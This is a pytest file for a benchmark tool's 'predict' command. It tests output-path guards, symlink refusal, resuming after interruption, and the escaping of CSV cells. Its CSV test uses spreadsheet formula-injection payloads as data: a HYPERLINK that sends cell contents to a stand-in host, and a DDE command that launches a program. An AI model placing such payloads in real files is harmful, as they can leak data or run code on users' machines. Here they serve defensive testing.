"""``iadbench predict``'s output (issue 18 items 9, 10, 11): guarded, appended, resumed, inert.

The output path is checked before any image is predicted; rows are appended to
``<output>.partial`` per batch and the same command resumes after Ctrl-C or kill -9, giving the
bytes of an uninterrupted output; a CSV never holds a cell a spreadsheet evaluates; and every
command's interruption message says what that command keeps.
"""

from __future__ import annotations

import csv
import errno
import json
import random
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import in_process
import pytest
from typer.testing import CliRunner

from iadbench.cli.app import app

# Scores from each image's bytes and id; long text lines, so some kills land inside a write.
_PLUGIN = textwrap.dedent(
    """
    import os, time, zlib
    from pathlib import Path
    import iadbench

    @iadbench.register_method("slow-bytes")
    class SlowBytes(iadbench.MethodAdapter):
        capabilities = iadbench.Capabilities(gives_scores=True, gives_text=True)
        default_batch_size = 2

        def predict(self, batch):
            if any(s.id == os.environ.get("PREDICT_TEST_STOP_AT") for s in batch):
                raise KeyboardInterrupt  # what Ctrl-C raises
            time.sleep(float(os.environ.get("PREDICT_TEST_DELAY", "0")) * len(batch))
            out = []
            for s in batch:
                crc = zlib.crc32(Path(s.image_path).read_bytes() + s.id.encode())
                text = os.environ.get("PREDICT_TEST_TEXT") or f"{crc:x}" * 500
                out.append(iadbench.Prediction(score=(crc % 1000) / 1000, text=text))
            if log := os.environ.get("PREDICT_TEST_LOG"):
                with open(log, "a") as handle:
                    handle.write("".join(s.id + "\\n" for s in batch))
            return out
    """
)


@pytest.fixture()
def plugin(tmp_path: Path) -> Path:
    path = tmp_path / "slow_bytes.py"
    path.write_text(_PLUGIN)
    return path


def _images(folder: Path, count: int) -> Path:
    for n in range(count):
        path = folder / f"cat{n % 3}" / f"{n:03d}.png"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(f"image {n}".encode() * 10)
    return folder


def _predict(plugin: Path, images: Path, output: Path, *extra: str):
    method = ["--method", "slow-bytes", "--plugin", str(plugin)]
    result = CliRunner().invoke(
        app, ["predict", str(images), *method, "--output", str(output), *extra]
    )
    return result, " ".join(result.output.split())


def _partial_ids(output: Path) -> set[str]:
    partial = Path(f"{output}.partial")
    if not partial.exists():
        return set()
    data = partial.read_bytes()
    lines = data[: data.rfind(b"\n") + 1].splitlines()[1:]  # a torn last line is cut on resume
    return {json.loads(line)["id"] for line in lines}


# ---------------------------------------------------------------- item 9: the output is guarded


@pytest.fixture(scope="module")
def complete_run(tmp_path_factory, synth_mvtec) -> Path:
    run = tmp_path_factory.mktemp("stored") / "run"
    args = ["run", "--method", "always-normal", "--test", "mvtec", "--data", f"mvtec={synth_mvtec}"]
    result = CliRunner().invoke(app, [*args, "--out", str(run)])
    assert result.exit_code == 0, result.output
    return run


def test_an_output_inside_a_run_dir_or_a_dataset_is_refused(
    tmp_path, complete_run, synth_mvtec, plugin, monkeypatch
):
    """``--output <run>/predictions.jsonl`` replaced the run's record, exit 0."""
    monkeypatch.setenv("PREDICT_TEST_LOG", str(tmp_path / "log"))
    images = _images(tmp_path / "in", 2)
    record = complete_run / "predictions.jsonl"
    before = record.read_bytes()
    result, text = _predict(plugin, images, record)
    assert result.exit_code == 2 and "lies inside the run dir" in text, result.output
    assert record.read_bytes() == before and not Path(f"{record}.partial").exists()

    inside = synth_mvtec / "labels.jsonl"
    for source in (["--from-run", str(complete_run)], ["--method", "always-normal", "--data",
                                                       f"mvtec={synth_mvtec}"]):  # fmt: skip
        result = CliRunner().invoke(app, ["predict", str(images), *source, "--output", str(inside)])
        assert result.exit_code == 2, result.output
        assert "lies inside the dataset root" in " ".join(result.output.split())
        assert not inside.exists() and not Path(f"{inside}.partial").exists()
    assert not (tmp_path / "log").exists()  # nothing was predicted


def test_an_existing_file_is_replaced_only_with_force(tmp_path, plugin):
    images = _images(tmp_path / "in", 2)
    out = tmp_path / "labels.jsonl"
    out.write_text("precious\n")
    result, text = _predict(plugin, images, out)
    assert result.exit_code == 2 and "exists; add --force to replace it" in text
    assert out.read_text() == "precious\n"
    result, _ = _predict(plugin, images, out, "--force")
    assert result.exit_code == 0, result.output
    assert len(out.read_text().splitlines()) == 2


def test_an_output_inside_a_predicted_folder_is_refused_even_with_force(tmp_path, plugin):
    # The attack re-run: predict ROOT/cat --output ROOT/split.csv --force replaced a split file.
    images = _images(tmp_path / "in", 2)
    target = images / "split.csv"
    target.write_text("object,split,label,image,mask\n")
    result, text = _predict(plugin, images, target, "--force")
    assert result.exit_code == 2 and "inside the dataset root" in text
    assert target.read_text() == "object,split,label,image,mask\n"


def test_a_link_planted_at_the_partial_name_is_never_written_through(tmp_path, plugin):
    # The issue-18 attack re-run: out.jsonl.partial -> RUN/predictions.jsonl, then --force.
    images = _images(tmp_path / "in", 2)
    victim = tmp_path / "predictions.jsonl"
    victim.write_text("sealed\n")
    out = tmp_path / "labels.jsonl"
    (tmp_path / "labels.jsonl.partial").symlink_to(victim)
    result, text = _predict(plugin, images, out, "--force")
    assert result.exit_code == 2 and "is a symbolic link" in text
    assert victim.read_text() == "sealed\n" and not out.exists()


@pytest.mark.parametrize("where", ["folder", "proc"])
def test_an_unwritable_output_is_refused_before_any_image_is_predicted(
    tmp_path, plugin, monkeypatch, where
):
    """``--output existing_dir.jsonl`` or ``/proc/o.jsonl`` predicted everything, then crashed."""
    if where == "proc" and not Path("/proc/self").exists():
        pytest.skip("no /proc")
    monkeypatch.setenv("PREDICT_TEST_LOG", str(tmp_path / "log"))
    images = _images(tmp_path / "in", 2)
    out = tmp_path / "taken.jsonl" if where == "folder" else Path("/proc/o.jsonl")
    if where == "folder":
        out.mkdir()
    result, text = _predict(plugin, images, out)
    assert result.exit_code == 2, result.output
    assert ("is a folder" if where == "folder" else "cannot be written") in text
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert not (tmp_path / "log").exists()  # refused before the method predicted anything
    assert not Path(f"{out}.tmp").exists() and not Path(f"{out}.partial").exists()


# ----------------------------------------------------------- item 11: CSV cells are not formulas


def test_csv_cells_are_never_formulas_and_jsonl_keeps_the_raw_text(tmp_path, plugin, monkeypatch):
    """Categories and model answers such as ``=HYPERLINK(…)`` reached the CSV raw."""
    answer = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    monkeypatch.setenv("PREDICT_TEST_TEXT", answer)
    category = "=cmd|' -C calc'!A0"
    (tmp_path / "in" / category).mkdir(parents=True)
    (tmp_path / "in" / category / "a.png").write_bytes(b"a")
    (tmp_path / "in" / "@sum" / "-b.png").parent.mkdir()
    (tmp_path / "in" / "@sum" / "-b.png").write_bytes(b"b")
    result, _ = _predict(plugin, tmp_path / "in", tmp_path / "p.csv")
    assert result.exit_code == 0, result.output
    with (tmp_path / "p.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(r["category"] for r in rows) == ["'=cmd|' -C calc'!A0", "'@sum"]
    assert {r["text"] for r in rows} == {"'" + answer}
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values()), row
    result, _ = _predict(plugin, tmp_path / "in", tmp_path / "p.jsonl")
    raw = [json.loads(line) for line in (tmp_path / "p.jsonl").open(encoding="utf-8")]
    assert sorted(r["category"] for r in raw) == [category, "@sum"]
    assert {r["text"] for r in raw} == {answer}


# ------------------------------------------------- item 10: appended, resumed, messages are true


def test_ctrl_c_keeps_the_finished_rows_and_the_same_command_resumes(tmp_path, plugin, monkeypatch):
    images = _images(tmp_path / "in", 9)
    clean = tmp_path / "clean.csv"
    assert _predict(plugin, images, clean)[0].exit_code == 0

    out = tmp_path / "labels.csv"
    monkeypatch.setenv("PREDICT_TEST_STOP_AT", "cat1/004.png")  # the third batch
    result, text = _predict(plugin, images, out)
    assert result.exit_code == 130, result.output
    assert "Interrupted. The rows predicted so far are kept in the output's .partial file" in text
    assert "Finished predictions are saved" not in text
    assert not out.exists() and len(_partial_ids(out)) == 4  # two batches of two

    monkeypatch.delenv("PREDICT_TEST_STOP_AT")
    monkeypatch.setenv("PREDICT_TEST_LOG", str(tmp_path / "log"))
    kept = _partial_ids(out)
    result, text = _predict(plugin, images, out)
    assert result.exit_code == 0, result.output
    assert "4 rows kept from the interrupted attempt" in text
    predicted = (tmp_path / "log").read_text().split()
    assert len(predicted) == 5 and not kept & set(predicted)  # only the missing images
    assert out.read_bytes() == clean.read_bytes()
    assert not Path(f"{out}.partial").exists() and not Path(f"{out}.tmp").exists()
    # Finished: the same command again refuses to replace it.
    result, text = _predict(plugin, images, out)
    assert result.exit_code == 2 and "add --force" in text


def test_unfinished_rows_of_another_command_or_edited_rows_are_not_resumed(
    tmp_path, plugin, monkeypatch
):
    images = _images(tmp_path / "in", 9)
    out = tmp_path / "labels.jsonl"
    monkeypatch.setenv("PREDICT_TEST_STOP_AT", "cat1/004.png")
    assert _predict(plugin, images, out)[0].exit_code == 130
    monkeypatch.delenv("PREDICT_TEST_STOP_AT")
    partial = Path(f"{out}.partial")
    original = partial.read_bytes()

    for other in (["--threshold", "fixed:0.3"], ["--category", "bracket"]):
        result, text = _predict(plugin, images, out, *other)
        assert result.exit_code == 2 and "unfinished rows of another predict command" in text
    result, text = _predict(plugin, _images(tmp_path / "more", 10), out)  # other images
    assert result.exit_code == 2 and "another predict command" in text
    assert partial.read_bytes() == original

    lines = original.decode().splitlines(keepends=True)
    row = json.loads(lines[2])
    row["row"]["label"] = "normal" if row["row"]["label"] == "defect" else "defect"
    partial.write_text("".join([*lines[:2], json.dumps(row) + "\n", *lines[3:]]))
    result, text = _predict(plugin, images, out)
    assert result.exit_code == 2 and "line 3" in text and "was changed" in text, result.output

    result, _ = _predict(plugin, images, out, "--force")  # starts over
    assert result.exit_code == 0, result.output
    assert not partial.exists() and len(out.read_text().splitlines()) == 9


def test_a_full_disk_keeps_the_appended_rows_as_the_message_says(tmp_path, plugin, monkeypatch):
    """On ENOSPC predict said "finished predictions are kept" while it kept nothing in memory."""
    from iadbench.execution.predict_log import PredictOutput

    images = _images(tmp_path / "in", 9)
    clean = tmp_path / "clean.jsonl"
    assert _predict(plugin, images, clean)[0].exit_code == 0
    append, calls = PredictOutput._append, []

    def fills_up(self, text):
        calls.append(text)
        if len(calls) == 4:  # the header, two batches, then the disk is full
            raise OSError(errno.ENOSPC, "No space left on device")
        append(self, text)

    monkeypatch.setattr(PredictOutput, "_append", fills_up)
    out = tmp_path / "labels.jsonl"
    result, text = _predict(plugin, images, out)
    assert result.exit_code == 75, result.output
    assert "No space left on device" in text and "Free some space" in text
    assert "The rows predicted so far are kept in the output's .partial file" in text
    assert len(_partial_ids(out)) == 4 and not out.exists()
    monkeypatch.setattr(PredictOutput, "_append", append)
    assert _predict(plugin, images, out)[0].exit_code == 0
    assert out.read_bytes() == clean.read_bytes()


@pytest.mark.skipif(sys.platform == "win32", reason="flock")
def test_a_second_predict_to_the_same_output_is_refused_while_the_first_works(
    tmp_path, plugin, monkeypatch
):
    import fcntl

    images = _images(tmp_path / "in", 9)
    out = tmp_path / "labels.jsonl"
    monkeypatch.setenv("PREDICT_TEST_STOP_AT", "cat1/004.png")
    assert _predict(plugin, images, out)[0].exit_code == 130
    monkeypatch.delenv("PREDICT_TEST_STOP_AT")
    partial = Path(f"{out}.partial")
    before = partial.read_bytes()
    with partial.open("rb") as held:  # what a running predict holds
        fcntl.flock(held.fileno(), fcntl.LOCK_EX)
        result, text = _predict(plugin, images, out)
    assert result.exit_code == 2 and "another predict is writing it now" in text, result.output
    assert partial.read_bytes() == before and not out.exists()
    assert _predict(plugin, images, out)[0].exit_code == 0  # the lock is gone with its holder


def test_a_refusal_before_the_first_row_leaves_no_partial_file(tmp_path, synth_mvtec, plugin_file):
    out = tmp_path / "p.jsonl"
    result = CliRunner().invoke(app, [
        "predict", str(synth_mvtec / "bottle" / "test"), "--method", "brightness", "--plugin",
        str(plugin_file), "--train", "mvtec", "--data", f"mvtec={synth_mvtec}",
        "--category", "bottle",  # the training knows 15 categories, not the folders good/...
        "--cache-dir", str(tmp_path / "empty"), "--output", str(out),
    ])  # fmt: skip
    assert result.exit_code == 2 and "no finished training" in result.output
    assert not out.exists() and not Path(f"{out}.partial").exists()


def _interrupted_by(monkeypatch, target: str, error: BaseException) -> None:
    def stop(*args, **kwargs):
        raise error

    monkeypatch.setattr(target, stop)


@pytest.mark.parametrize(
    ("args", "target"),
    [
        (["data", "synth", "mvtec", "{tmp}/tree"], "iadbench.data.synth.synthesize"),
        (["leaderboard", "{tmp}"], "iadbench.views.leaderboard.collect_runs"),
        (["report", "{tmp}"], "iadbench.views.report.write_report"),
    ],
)
@pytest.mark.parametrize(
    "error", [KeyboardInterrupt(), OSError(errno.ENOSPC, "No space left on device")]
)
def test_commands_that_do_not_resume_do_not_promise_it(tmp_path, monkeypatch, args, target, error):
    """Every command printed "Finished predictions are saved; … resume" on Ctrl-C."""
    _interrupted_by(monkeypatch, target, error)
    result = CliRunner().invoke(app, [a.format(tmp=tmp_path) for a in args])
    text = " ".join(result.output.split())
    assert result.exit_code == (130 if isinstance(error, KeyboardInterrupt) else 75), text
    assert "This command does not resume: run it again to start over" in text
    assert "predictions" not in text and "resume with the rest" not in text
    if isinstance(error, OSError):
        assert "No space left on device" in text and "Free some space" in text


def test_run_still_says_that_it_resumes(tmp_path, synth_mvtec, monkeypatch):
    _interrupted_by(monkeypatch, "iadbench.execution.launch.launch_run", KeyboardInterrupt())
    result = CliRunner().invoke(app, ["run", "--method", "always-normal", "--test", "mvtec",
                                      "--data", f"mvtec={synth_mvtec}", "--out",
                                      str(tmp_path / "r")])  # fmt: skip
    assert result.exit_code == 130
    assert "Finished predictions are saved; run the same command again" in result.output


# ---------------------------------------------------------- item 10: kill -9, then the same command


def _arguments(plugin: Path, images: Path, output: Path) -> list[str]:
    return ["predict", str(images), "--method", "slow-bytes", "--plugin", str(plugin),
            "--output", str(output)]  # fmt: skip


def _command(plugin: Path, images: Path, output: Path) -> list[str]:
    return [sys.executable, "-m", "iadbench", *_arguments(plugin, images, output)]


@pytest.mark.slow
@pytest.mark.parametrize(("suffix", "seed"), [("jsonl", 0), ("csv", 1)])
def test_kill_9_at_random_points_then_the_same_command_gives_the_uninterrupted_bytes(
    tmp_path, plugin, suffix, seed
):
    images = _images(tmp_path / "in", 60)
    delay = {"PREDICT_TEST_DELAY": "0.02"}
    env = {**__import__("os").environ, **delay}
    clean = tmp_path / f"clean.{suffix}"
    # The uninterrupted command and the finishing one run in this process; the attempts that
    # are killed are processes of their own (kill -9 is the point).
    done = in_process.iadbench(*_arguments(plugin, images, clean), env=delay)
    assert done.returncode == 0, done.stderr

    out = tmp_path / f"killed.{suffix}"
    partial = Path(f"{out}.partial")
    rng = random.Random(seed)
    kills = 0
    for attempt in range(3):
        size = partial.stat().st_size if partial.exists() else -1
        kept = _partial_ids(out)
        log = tmp_path / f"log{attempt}"
        process = subprocess.Popen(
            _command(plugin, images, out), env={**env, "PREDICT_TEST_LOG": str(log)},
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )  # fmt: skip
        deadline = time.monotonic() + 60
        while process.poll() is None and (not partial.exists() or partial.stat().st_size <= size):
            assert time.monotonic() < deadline
            time.sleep(0.005)
        time.sleep(rng.uniform(0.0, 0.4))
        if process.poll() is None:
            process.kill()  # SIGKILL: no handler runs
            kills += 1
        process.wait()
        if log.exists():  # an attempt predicts only the images without a row
            assert not kept & set(log.read_text().split())
        if out.exists():
            break
    assert kills >= 1
    if not out.exists():
        finish = in_process.iadbench(*_arguments(plugin, images, out), env=delay)
        assert finish.returncode == 0, finish.stderr
    assert out.read_bytes() == clean.read_bytes()
    assert not partial.exists() and not Path(f"{out}.tmp").exists()
